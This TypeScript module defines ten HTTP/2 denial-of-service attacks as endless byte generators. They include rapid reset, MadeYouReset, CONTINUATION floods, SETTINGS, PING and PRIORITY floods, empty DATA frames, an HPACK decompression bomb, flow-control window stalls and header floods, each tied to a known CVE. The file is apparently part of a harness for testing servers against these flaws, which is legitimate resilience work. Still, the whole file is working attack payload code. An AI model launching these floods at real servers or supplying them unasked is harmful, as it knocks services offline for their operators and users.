/** Ten ways to make an HTTP/2 server work more than its client does. Each is an endless supply of bytes after the preface. */
import { field, Flag, frame, integer, keptField, request, setting, Type, u32 } from "./frames.ts";

/** How an abuse is carried out on one connection. */
export interface Abuse {
  /** What goes wrong where nobody watches for it. */
  readonly about: string;
  /** Whether the attacker reads what it is answered. */
  readonly reads: boolean;
  /** Bytes to send, one piece after the other; an empty piece is a pause. */
  readonly bytes: (authority: string) => Iterable<Buffer>;
}

/** Streams opened or frames sent with one write. */
const BATCH = 100;
const STREAM_MAX = 2 ** 31 - 2 * BATCH;
const CANCEL = 8;
const INITIAL_WINDOW_SIZE = 4;
const MAX_CONCURRENT_STREAMS = 3;
const WHOLE = Flag.endStream | Flag.endHeaders;
/** One entry of the table that is nearly as large as the table (RFC 7541 §4.2), and references to it in one block. */
const BOMB_BYTES = 3_900;
const BOMB_REFERENCES = 12_000;
/** The first entry of the dynamic table. */
const NEWEST = integer(0x80, 7, 62);
const FLOOD_FIELDS = 400;

function many(count: number, one: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));
}

function* streams(one: (stream: number) => Buffer): Iterable<Buffer> {
  for (let stream = 1; stream < STREAM_MAX; stream += 2 * BATCH)
    yield many(BATCH, (index) => one(stream + 2 * index));
}

function* forever(first: Buffer, then: () => Buffer): Iterable<Buffer> {
  yield first;
  for (;;) yield then();
}

export const ABUSES: Readonly<Record<string, Abuse>> = {
  "rapid-reset": {
    about: "requests that are cancelled as they are made (CVE-2023-44487)",
    reads: true,
    bytes: (authority) => {
      const head = request("GET", authority);
      return streams((stream) =>
        Buffer.concat([frame(Type.headers, WHOLE, stream, head), frame(Type.reset, 0, stream, u32(CANCEL))]),
      );
    },
  },
  "made-you-reset": {
    about: "requests followed by an error for which the server must reset them (CVE-2025-8671)",
    reads: true,
    bytes: (authority) => {
      const head = request("GET", authority);
      return streams((stream) =>
        Buffer.concat([
          frame(Type.headers, WHOLE, stream, head),
          frame(Type.windowUpdate, 0, stream, u32(0)),
        ]),
      );
    },
  },
  continuation: {
    about: "a head that does not end (CVE-2024-27316 and its like)",
    reads: true,
    bytes: (authority) => {
      const more = many(50, (index) => frame(Type.continuation, 0, 1, field(`x-${index}`, "v".repeat(40))));
      return forever(frame(Type.headers, Flag.endStream, 1, request("GET", authority)), () => more);
    },
  },
  "empty-continuation": {
    about: "a head that does not end, of frames without a byte",
    reads: true,
    bytes: (authority) => {
      const more = many(500, () => frame(Type.continuation, 0, 1));
      return forever(frame(Type.headers, Flag.endStream, 1, request("GET", authority)), () => more);
    },
  },
  settings: {
    about: "settings, each of which must be acknowledged (CVE-2019-9515)",
    reads: true,
    bytes: () => {
      const more = many(300, () => frame(Type.settings, 0, 0, setting(MAX_CONCURRENT_STREAMS, 100)));
      return forever(more, () => more);
    },
  },
  ping: {
    about: "pings, whose answers are not read (CVE-2019-9512)",
    reads: false,
    bytes: () => {
      const more = many(300, () => frame(Type.ping, 0, 0, Buffer.from("12345678")));
      return forever(more, () => more);
    },
  },
  "empty-data": {
    about: "frames of a body without a byte (CVE-2019-9518, RUSTSEC-2026-0258)",
    reads: true,
    bytes: (authority) => {
      const more = many(500, () => frame(Type.data, 0, 1));
      return forever(
        frame(Type.headers, Flag.endHeaders, 1, request("POST", authority, "/digest")),
        () => more,
      );
    },
  },
  priority: {
    about: "priorities of streams that do not exist (CVE-2019-9513)",
    reads: true,
    bytes: () => {
      const more = many(300, (index) =>
        frame(Type.priority, 0, 2 * index + 1, Buffer.from([0, 0, 0, 0, 16])),
      );
      return forever(more, () => more);
    },
  },
  "hpack-bomb": {
    about: "heads of a few bytes that unpack to megabytes (CVE-2016-6581)",
    reads: true,
    bytes: function* (authority) {
      const head = request("GET", authority);
      const large = keptField("x-bomb", "b".repeat(BOMB_BYTES));
      yield frame(Type.headers, WHOLE, 1, Buffer.concat([head, large]));
      const bomb = Buffer.concat([head, ...Array.from({ length: BOMB_REFERENCES }, () => NEWEST)]);
      for (let stream = 3; stream < STREAM_MAX; stream += 2) yield frame(Type.headers, WHOLE, stream, bomb);
    },
  },
  "window-stall": {
    about: "requests whose answers may not be sent (CVE-2019-9511 and 9517)",
    reads: false,
    bytes: function* (authority) {
      yield frame(Type.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, 0));
      const head = request("GET", authority, "/bytes/65536");
      yield many(BATCH, (index) => frame(Type.headers, WHOLE, 2 * index + 1, head));
      for (;;) {
        yield many(BATCH, (index) => frame(Type.windowUpdate, 0, 2 * index + 1, u32(1)));
        yield Buffer.alloc(0);
      }
    },
  },
  "header-flood": {
    about: "many fields in each of many heads, up to what one may be",
    reads: true,
    bytes: (authority) => {
      const block = Buffer.concat([
        request("GET", authority),
        ...Array.from({ length: FLOOD_FIELDS }, (_, index) => field(`x-flood-${index}`, "v")),
      ]);
      return streams((stream) => frame(Type.headers, WHOLE, stream, block));
    },
  },
};
